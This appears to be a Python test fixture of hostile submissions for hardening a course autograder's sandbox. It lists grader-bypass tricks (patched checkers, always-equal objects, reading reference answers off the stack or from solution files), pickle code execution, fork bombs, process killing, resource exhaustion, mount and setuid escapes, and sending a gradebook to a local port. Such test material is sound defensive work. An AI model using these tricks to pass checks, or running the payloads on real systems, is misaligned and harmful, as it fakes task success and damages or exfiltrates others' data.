"""What students could hand in to get points, to look around, or to break things. None of it earns a point.

Each is a cell of code that stands behind the imports. ``OUTSIDE`` in it is a folder of the teacher's, ``PORT`` a port
on which the teacher's computer listens. Whoever succeeds writes "got it" into a name that no answer has, or does harm.
"""

PATCH_CHECK = "import course.checks\ncheck = course.checks.check = lambda *a: None"
PATCH_JUDGE = """
from course.checks import desk
from course.verdicts.findings import right
desk.judge = lambda task, answer: right("got it")
"""
PATCH_TASK = """
import course.checks.task as t
from course.verdicts.findings import right
t.tasks = lambda topic: {}
t.Task.judge = property(lambda self: lambda given: right("got it"))
"""
NOT_GRADING = "import os\nfor name in ('NBGRADER_EXECUTION', 'COURSE_STRICT'):\n    os.environ.pop(name, None)"
TRANSFORM = """
def blank(lines):
    return [] if any('check(' in line for line in lines) else lines
get_ipython().input_transformers_post.append(blank)
"""
REPLACE_SHELL = """
class R:
    error_before_exec = error_in_exec = None
get_ipython().run_cell = lambda *a, **k: R()
"""
PRINT_POINTS = "print(12.0)\nfrom IPython.display import display\ndisplay(12.0)\nimport sys; sys.stdout.write('1.0')"
ALWAYS_EQUAL = """
class Any_:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter((self, self))
    def __getattr__(self, name): return self
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __array__(self, *a, **k): raise TypeError
    __hash__ = object.__hash__
weight = pooled = mu_hat = model = james_stein = claims = Any_()
"""
EQUAL_FLOAT = """
class F(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
weight = F(3)
"""
EQUAL_ARRAY = """
import numpy as np
class A(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.zeros(8)
weight = np.array(3.0).view(A)
pooled = lambda *a: (np.zeros(8).view(A), np.zeros(8).view(A))
"""
STACK = """
import inspect
def pooled(y, sigma, mu, tau):
    for frame in inspect.stack():
        for name in ('wanted', 'reference', 'every', 'answer'):
            if name in frame.frame.f_locals:
                found = frame.frame.f_locals[name]
                return found[0] if isinstance(found, (tuple, list)) else found(y, sigma, mu, tau)
    raise ValueError('nothing on the stack')
mu_hat = james_stein = pooled
"""
GARBAGE = """
import gc
weight = next((float(o.answer()) for o in gc.get_objects() if type(o).__name__ == 'Number'), 99)
"""
READ_TASKS = """
import glob, course, os
here = os.path.dirname(course.__file__)
places = ('/lessons/**/*.py', '/../solutions/*', '/bundle/solutions/*', '/../tests/**/*.py', '/../.git/*')
found = [f for place in places for f in glob.glob(here + place, recursive=True) if not f.endswith('__init__.py')]
weight = 0.2 if found else 99
"""
IMPORT_TASKS = """
try:
    from course.lessons.shrinkage.tasks import TASKS
    weight = TASKS[0].judge.answer()
except ImportError:
    weight = 99
"""
ASK_SOLUTION = """
from course.checks import hint, solution
for _ in range(4): hint('shrinkage.weight')
text = repr(solution('shrinkage.weight'))
weight = 0.2 if 'lambda' in text or '0.2' in text or '**' in text else 99
"""
FORGE_ANSWER = """
import os, json, struct
def frame(tree, sizes=(), blob=b''):
    text = json.dumps({'tree': tree, 'sizes': list(sizes)}).encode()
    return struct.pack('>QQ', len(text), len(blob)) + text + blob
right = ['tuple', [['text', 'ok'], ['thing', 'finding', 0, 'Finding', 'right']]]
for fd in range(3, 30):
    try: os.write(fd, frame(right) * 50)
    except OSError: pass
"""
FORGE_PICKLE = """
import os, pickle
class Boom:
    def __reduce__(self): return (os.system, ('touch OUTSIDE/pickled',))
for fd in range(3, 30):
    try: os.write(fd, pickle.dumps(Boom()) * 20)
    except OSError: pass
weight = Boom()
"""
FORGE_SIZES = """
import os, struct
for fd in range(3, 30):
    try: os.write(fd, struct.pack('>QQ', 2**62, 2**62))
    except OSError: pass
"""
FORGE_DEEP = """
import os, struct
text = b'{"tree":' + b'["list",[' * 50000 + b']]' * 50000 + b',"sizes":[]}'
for fd in range(3, 30):
    try: os.write(fd, struct.pack('>QQ', len(text), 0) + text)
    except OSError: pass
"""
FORGE_SHAPE = """
from course.app.classroom.rooms import wire
def array(self, value, deep):
    self._blobs.append(b'')
    return ['array', '<f8', [0, 10**7, 10**7, 10**7]]
wire.Packer._array = array
import numpy as np
weight = np.zeros(3)
pooled = lambda *a: np.zeros(3)
"""
FLOOD = """
import os, threading
def flood():
    while True:
        for fd in range(3, 12):
            try: os.write(fd, b'x' * 65536)
            except OSError: pass
threading.Thread(target=flood, daemon=True).start()
"""
PICKLED = """
import os
class Boom:
    def __reduce__(self): return (os.system, ('touch OUTSIDE/pickled',))
weight, claims, mu_hat = Boom(), {'A': Boom()}, lambda *a: Boom()
pooled = lambda *a: (Boom(), Boom())
"""
HUGE_ARRAY = """
import numpy as np
weight = np.zeros(60_000_000)
pooled = lambda *a: (np.zeros(30_000_000), np.zeros(30_000_000))
"""
HUGE_TEXT = "weight = claims = 'A' * 200_000_000"
HUGE_INT = "weight = 7 ** 3_000_000"
ENDLESS_LIST = "weight = []\nweight.append(weight)\nclaims = {}\nclaims['A'] = claims"
BAD_REPR = """
class R:
    def __repr__(self):
        while True: pass
weight = R()
"""
BILLION = "a = [0] * 10\nfor _ in range(9): a = [a] * 10\nweight = a"
FRACTIONS = """
from course.app.classroom.rooms import wire
wire.Packer._pack = lambda self, value, deep: ['tuple', [['text', 'ok'], ['Fraction', '1e999999999']]]
"""
FORK_ANSWERS = """
import os
for _ in range(5):
    if os.fork() == 0: break
"""
LATE_RIGHT = """
import time
def pooled(y, sigma, mu, tau):
    time.sleep(3600)
mu_hat = pooled
"""
ONLY_FIRST = """
calls = []
def pooled(y, sigma, mu, tau):
    calls.append(1)
    if len(calls) == 1: return y, sigma
    raise StopIteration
"""
TRIAL = """
from course.checks import limit
limit.trial = lambda f, inputs, seconds: limit.Trial((), 0.0, 0.0, limit.Printed())
pooled = mu_hat = james_stein = lambda *a: 0
"""
MANY_CALLS = """
from course.checks import limit
calls = tuple(limit.Call(0) for _ in range(10000))
limit.trial = lambda f, inputs, seconds: limit.Trial(calls, 0.0, 0.0, limit.Printed())
pooled = mu_hat = james_stein = lambda *a: 0
"""
EXIT = "import sys\nsys.exit(0)"
IPYTHON_EXIT = "exit()"
DIE = "import os\nos._exit(0)"
KILL_ALL = "import os, signal\nos.kill(os.getppid(), 9)\nos.kill(1, 9)\nos.kill(-1, 9)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
LOOP = """
while True:
    try:
        while True: pass
    except BaseException: pass
"""
UNSTOPPED = "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass"

POINTS = {
    name.lower(): value
    for name, value in list(globals().items())
    if name.isupper() and isinstance(value, str) and name not in ("LOOP", "UNSTOPPED")
}
ENDLESS = {"loop": LOOP, "unstopped": UNSTOPPED}

# What reaches for what is not theirs; each leaves a trace outside if it succeeds.
HARM = {
    "write": """
import os, pathlib
for place in ('OUTSIDE', os.path.expanduser('~'), '/', '/etc', '/usr', '/homework', '/var/tmp'):
    try: pathlib.Path(place, 'got_it').write_text('got it')
    except OSError: pass
open('OUTSIDE/gradebook.db', 'w').write('got it')
""",
    "read": """
text = open('OUTSIDE/gradebook.db').read()
import socket
s = socket.create_connection(('127.0.0.1', PORT)); s.send(text.encode())
""",
    "network": "import socket\ns = socket.create_connection(('127.0.0.1', PORT), 3)\ns.send(b'got it')",
    "abstract": "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0course-class-test')",
    "shell": "!touch OUTSIDE/got_it\n!curl -s http://127.0.0.1:PORT/got_it",
    "proc": """
import os, glob
for place in glob.glob('/proc/*/root') + glob.glob('/proc/*/cwd'):
    try: open(place + 'OUTSIDE/got_it', 'w').write('got it')
    except OSError: pass
""",
    "mount": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.umount2(b'/homework', 2)
libc.mount(b'none', b'/usr', b'tmpfs', 0, None)
libc.unshare(0x10000000)
os.system('mount -o remount,rw /')
os.system('mount -o remount,rw /usr && touch /usr/got_it')
""",
    "root": "import os\nos.setuid(0)\nopen('OUTSIDE/got_it', 'w').write('got it')",
    "descriptors": """
import os
for fd in range(3, 256):
    try: os.write(os.open('got_it', os.O_CREAT | os.O_WRONLY, dir_fd=fd), b'got it')
    except (OSError, TypeError): pass
""",
    "daemon": """
import os, time
for _ in range(2):
    if os.fork(): break
    os.setsid()
else:
    while True: time.sleep(1)
""",
    "thread": "import threading, time\nthreading.Thread(target=lambda: time.sleep(10**6)).start()",
    "at exit": "import atexit, os\natexit.register(lambda: open('OUTSIDE/got_it', 'w').write('got it'))",
    "background": "!sleep 100000 &\nimport subprocess\nsubprocess.Popen(['sleep', '100000'], start_new_session=True)",
    "forks": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "memory": "import os\nx = []\nwhile True: x.append(bytearray(os.urandom(10**6) * 50))",
    "memory of many": """
import os, time
for _ in range(6): os.fork()
x = [bytearray(os.urandom(10**6) * 20) for _ in range(4)]
time.sleep(100)
""",
    "disk": """
for place in ('/tmp', '/dev/shm', '/home/student', '/dev', '/'):
    for i in range(10**4):
        try: open(f'{place}/{i}', 'wb').write(b'x' * 50_000_000)
        except OSError: break
""",
    "descriptors without end": "import os\nkept = [os.open('/dev/null', 0) for _ in range(10**6)]",
}
